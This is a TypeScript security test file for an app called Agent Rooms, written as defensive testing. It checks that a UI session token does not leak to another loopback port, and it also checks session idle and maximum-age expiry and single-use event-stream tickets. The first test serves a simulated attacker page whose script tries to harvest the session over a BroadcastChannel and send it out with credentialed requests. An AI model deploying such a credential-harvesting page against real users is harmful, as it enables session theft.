/// <reference lib="dom" />
// Item 5: the UI's credential must never leave this server's origin. Cookies are not
// port-scoped, so a session cookie for 127.0.0.1:PORT also goes to every other server on
// 127.0.0.1. The attack: the signed-in user's browser visits a page served on another loopback
// port; that server records what it receives and replays it against Agent Rooms. Also: the
// session ends when idle (and renews on use), and the event stream's URL ticket is single-use.
// The session's listing and revocation are attacked in 05-ui-sessions.test.ts.
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import type { Browser } from 'playwright-core';
import { startTestServer, type TestServer } from '../helpers/server.js';
import { browserSkipReason, launchBrowser, openSignedIn, signedInPage } from '../helpers/browser.js';
import { startEvilOrigin, type EvilOrigin } from '../helpers/evil-origin.js';
import { sha256Hex } from '../../src-main/core/util/ids.js';
import { UI_SESSION_IDLE_MS, UI_SESSION_MAX_MS } from '../../src-main/core/owners/login.js';

const skip = browserSkipReason();
if (skip) console.warn(`test/security/05-ui-credential.test.ts: ${skip}`);

describe.skipIf(!!skip)('item 5: the UI credential stays on its origin', () => {
  let s: TestServer;
  let browser: Browser;
  let evil: EvilOrigin;

  beforeAll(async () => {
    s = await startTestServer();
    // One renderer process for all the tabs (as the UI files; docs/testing.md, "UI files"): what is
    // checked here is what reaches the servers and the storage of each origin, not process isolation.
    browser = await launchBrowser(['--renderer-process-limit=1']);
    evil = await startEvilOrigin();
  });
  afterAll(async () => {
    await browser?.close();
    await evil?.close();
    await s?.stop();
  });

  const sessionOf = (page: import('playwright-core').Page) =>
    page.evaluate(() => Object.values(localStorage).find((v) => typeof v === 'string' && v.startsWith('ars_')) ?? null);

  it('a page on another loopback port receives nothing that signs in to Agent Rooms', async () => {
    const { context, page } = await signedInPage(browser, s.running.loginUrl());
    evil.page(
      '/',
      `<!doctype html><title>cat pictures</title><img src="/pixel.gif">
       <script>
         // Earlier versions shared the session between tabs over a BroadcastChannel: ask it from here too.
         const ch = new BroadcastChannel('agent-rooms.session');
         ch.onmessage = (e) => fetch('/heard?' + encodeURIComponent(JSON.stringify(e.data)));
         ch.postMessage({ type: 'ask' });
         fetch('/collect', { credentials: 'include' }).then(() => setTimeout(() => { document.title = 'done'; }, 800));
       </script>`,
    );
    const attack = await context.newPage();
    await attack.goto(evil.origin + '/');
    await expect.poll(() => attack.title()).toBe('done');
    // Same browser, same user: the UI tab is still signed in.
    expect(await page.getByTestId('signed-in-as').isVisible()).toBe(true);

    expect(evil.requests.length).toBeGreaterThanOrEqual(3);
    const leaked = evil.requests.map((r) => [r.headers.cookie, r.headers.authorization].filter(Boolean).join('; ')).filter((h) => h.length > 0);
    // Whatever reached the other port, replayed against Agent Rooms, signs nobody in.
    for (const header of leaked) {
      const asCookie = await fetch(s.baseUrl + '/v1/me', { headers: { cookie: header } });
      expect(asCookie.status).toBe(401);
    }
    expect(leaked).toEqual([]);
    const token = await sessionOf(page);
    expect(token).toMatch(/^ars_/);
    expect(JSON.stringify(evil.requests)).not.toContain(token!);
    expect(evil.requests.some((r) => r.path.startsWith('/heard'))).toBe(false);
    // The other origin's storage holds nothing of it; a tab of the UI's own origin (a room opened in a new tab) has it.
    expect(await attack.evaluate(() => JSON.stringify({ ...localStorage }) + JSON.stringify({ ...sessionStorage }))).not.toContain('ars_');
    const second = await context.newPage();
    await second.goto(s.baseUrl + '/#/agents');
    await second.getByTestId('signed-in-as').waitFor();
    await context.close();
  });

  // The session's life and the stream's ticket: a signed-in tab without the sign-in walk (the first test walks it).
  it('the session ends when idle, renews on use, and ends at its maximum age', async () => {
    const { context, page } = await openSignedIn(browser, s);
    const token = (await sessionOf(page))!;
    const db = s.running.core.db;
    const row = () => db.prepare('SELECT created_at, expires_at FROM ui_sessions WHERE id_hash = ?').get(sha256Hex(token)) as { created_at: number; expires_at: number } | undefined;
    const me = () => fetch(s.baseUrl + '/v1/me', { headers: { authorization: `Bearer ${token}` } }).then((r) => r.status);

    // Nearly idle: one request moves the idle deadline forward by the whole idle period.
    const nearlyIdle = Date.now() + 30_000;
    db.prepare('UPDATE ui_sessions SET expires_at = ? WHERE id_hash = ?').run(nearlyIdle, sha256Hex(token));
    expect(await me()).toBe(200);
    expect(row()!.expires_at).toBeGreaterThan(nearlyIdle + UI_SESSION_IDLE_MS / 2);
    // Sliding: 30 days from the last use, within a maximum age.
    expect(UI_SESSION_IDLE_MS).toBe(30 * 24 * 3600 * 1000);
    expect(UI_SESSION_MAX_MS).toBeGreaterThan(UI_SESSION_IDLE_MS);

    // Past its maximum age, activity does not keep it alive.
    db.prepare('UPDATE ui_sessions SET created_at = ? WHERE id_hash = ?').run(Date.now() - UI_SESSION_MAX_MS - 1000, sha256Hex(token));
    expect(await me()).toBe(401);
    expect(row()).toBeUndefined();

    // Idle too long: the next request is refused and the page shows how to sign in.
    const second = await openSignedIn(browser, s);
    const t2 = (await sessionOf(second.page))!;
    db.prepare('UPDATE ui_sessions SET expires_at = ? WHERE id_hash = ?').run(Date.now() - 1, sha256Hex(t2));
    await second.page.reload();
    await second.page.getByText('You are not signed in').waitFor();
    await second.context.close();
    await context.close();
  });

  it('the event stream takes a single-use ticket, never a cookie or a reusable token on its URL', async () => {
    const { context, page } = await openSignedIn(browser, s);
    const token = (await sessionOf(page))!;
    expect((await fetch(s.baseUrl + '/v1/events')).status).toBe(401);
    const t = await fetch(s.baseUrl + '/v1/events/ticket', { method: 'POST', headers: { authorization: `Bearer ${token}` } });
    expect(t.status).toBe(201);
    const { ticket } = (await t.json()) as { ticket: string };
    const ac = new AbortController();
    const first = await fetch(`${s.baseUrl}/v1/events?ticket=${ticket}`, { signal: ac.signal });
    expect(first.status).toBe(200);
    ac.abort();
    const again = await fetch(`${s.baseUrl}/v1/events?ticket=${ticket}`);
    expect(again.status).toBe(401);
    expect((await fetch(`${s.baseUrl}/v1/events?ticket=${token}`)).status).toBe(401);
    await context.close();
  });
});
